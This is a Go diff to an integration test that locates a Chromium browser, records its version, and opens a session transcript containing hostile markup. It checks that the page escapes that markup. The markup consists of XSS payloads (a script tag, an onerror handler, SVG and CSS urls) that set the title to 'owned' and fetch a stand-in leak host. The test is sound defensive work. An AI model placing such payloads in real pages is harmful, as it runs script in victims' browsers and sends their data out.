@@ -3,6 +3,7 @@ package integration
 import (
 	"bytes"
 	"context"
+	"fmt"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -14,29 +15,32 @@ import (
 	"testing"
 	"time"
 
+	"github.com/rollout-sync/rollout/integration/parts"
 	"github.com/rollout-sync/rollout/replay"
 	"github.com/rollout-sync/rollout/store/local"
 )
 
-// chromium returns the browser. Without one the test is skipped, unless
-// ROLLOUT_CHROMIUM is "require"; it may also be the program's path.
-func chromium(t *testing.T) string {
+// chromium returns the browser and its version. ROLLOUT_CHROMIUM may be the path of
+// another than the first that is found.
+func chromium(t *testing.T) (path, version string) {
 	t.Helper()
 	names := []string{"chromium", "chromium-browser", "google-chrome", "chrome"}
-	env := os.Getenv("ROLLOUT_CHROMIUM")
-	if env != "" && env != "require" {
-		names = []string{env}
+	if path := os.Getenv("ROLLOUT_CHROMIUM"); path != "" {
+		names = []string{path}
 	}
-	for _, program := range names {
-		if path, err := exec.LookPath(program); err == nil {
-			return path
+	for _, name := range names {
+		path, err := exec.LookPath(name)
+		if err != nil {
+			continue
 		}
+		out, err := exec.CommandContext(t.Context(), path, "--version").Output()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return path, regexp.MustCompile(`[0-9]+\.[0-9.]*[0-9]`).FindString(string(out))
 	}
-	if env != "" {
-		t.Fatalf("there is none of %q", names)
-	}
-	t.Skip("there is no Chromium here: install one, or set ROLLOUT_CHROMIUM to its path")
-	return ""
+	parts.Missing(t, "chromium", fmt.Sprintf("there is none of %q; install one, or set ROLLOUT_CHROMIUM to its path", names))
+	return "", ""
 }
 
 // TestTranscriptInABrowser opens a session full of malice in a browser. Neither does
@@ -44,7 +48,8 @@ func chromium(t *testing.T) string {
 // when hostile markup gets into the page unescaped. With both at once it does, so
 // that the test would see it.
 func TestTranscriptInABrowser(t *testing.T) {
-	browser := chromium(t)
+	browser, version := chromium(t)
+	parts.Add(t, parts.Entry{Part: "chromium", Version: version, Cases: 4})
 	const hostile = `<script>document.title = "owned"; fetch("http://leak.invalid/fetch")</script>
 <img src="http://leak.invalid/image" onerror="document.title = 'owned'">
 <svg><image href="http://leak.invalid/svg"/></svg><style>main { background: url(http://leak.invalid/style) }</style>
